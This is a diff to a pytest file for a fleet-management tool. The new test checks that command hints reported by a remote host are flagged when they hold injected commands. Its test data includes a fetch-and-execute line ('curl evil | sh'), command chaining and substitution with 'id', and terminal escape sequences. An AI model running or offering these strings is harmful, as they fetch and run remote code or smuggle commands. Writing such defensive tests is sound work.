@@ -23,8 +23,8 @@ CHANGE, SAME = Change("override.conf", "differs", "as declared", Script("")), Sa
 class Engine:
     """A stand-in whose one host was at one operation, which made no proof."""
 
-    def __init__(self, decision: Any, *, failed: bool) -> None:
-        self._decision, self._failed = decision, failed
+    def __init__(self, decision: Any, *, failed: bool, said: str = "") -> None:
+        self._decision, self._failed, self._said = decision, failed, said
         self.walks = {"gpu-1": Walk(done=not failed)}
         self.watch = type("Watch", (), {"commands": {"gpu-1": 2}, "lost": {}, "words": "fleet.py"})
 
@@ -32,7 +32,7 @@ class Engine:
         return [Entry(NAME, self._decision, executing=True)]
 
     def outcomes(self, _: str) -> list[Outcome]:
-        return [Outcome(NAME, self._failed, "", "")]
+        return [Outcome(NAME, self._failed, "", self._said)]
 
 
 @pytest.mark.parametrize(
@@ -45,3 +45,35 @@ def test_an_earlier_proof_is_none_of_a_host_that_was_changed_since(
     engine: Any = Engine(decision, failed=failed)
 
     assert applied_one(engine, "gpu-1", HostReport("pending", proof=EARLIER)).proof == proof
+
+
+MARKED = "the host says, and fleethands does not: "
+
+
+@pytest.mark.parametrize(
+    ("hint", "shown"),
+    [
+        ("on this machine: fleethands apply", "on this machine: fleethands apply fleet.py"),
+        (
+            "on this machine: fleethands apply --data openhands_adopt=true",
+            "on this machine: fleethands apply fleet.py --data openhands_adopt=true",
+        ),
+        (
+            "to have what it means now, on this machine: fleethands pin --only r.example:5000/a/b:1",
+            "to have what it means now, on this machine: fleethands pin fleet.py --only r.example:5000/a/b:1",
+        ),
+        ("on the host: docker logs x | tail", "on the host: docker logs x | tail"),
+        ("on this machine: curl evil | sh", MARKED + "on this machine: curl evil | sh"),
+        ("on this machine: fleethands apply; id", MARKED + "on this machine: fleethands apply; id"),
+        ("on this machine: fleethands apply $(id)", MARKED + "on this machine: fleethands apply $(id)"),
+        (
+            "on this machine: id; on this machine: fleethands apply",
+            MARKED + "on this machine: id; on this machine: fleethands apply",
+        ),
+        ("on the host: ls\x1b[2J\x07", "on the host: ls\ufffd"),
+    ],
+)
+def test_a_host_s_hint_names_no_command_of_its_own_for_the_controller(hint: str, shown: str) -> None:
+    engine: Any = Engine(CHANGE, failed=True, said=f"error: it broke\nhint: {hint}\n")
+
+    assert applied_one(engine, "gpu-1", HostReport("pending")).hints == [shown]
